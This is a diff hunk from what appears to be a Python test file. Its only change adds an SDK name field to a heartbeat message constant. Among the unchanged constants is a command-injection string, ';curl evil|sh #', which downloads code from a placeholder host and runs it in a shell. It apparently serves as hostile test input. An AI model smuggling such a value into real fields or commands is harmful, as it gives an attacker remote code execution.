@@ -31,7 +31,7 @@ from ..support.watched_store import WatchedStore
 
 KEY = "0123456789abcdef0123456789abcdef"
 HERE = 21
-BEAT = b'{"type":"heartbeat"}'
+BEAT = b'{"type":"heartbeat","sdk":{"name":"sentry.python"}}'
 EVIL = ";curl evil|sh #"
 LOCAL, FAR = "127.0.0.1", "192.0.2.1"
 PYTHON = {"user-agent": "sentry.python/2.75.0"}
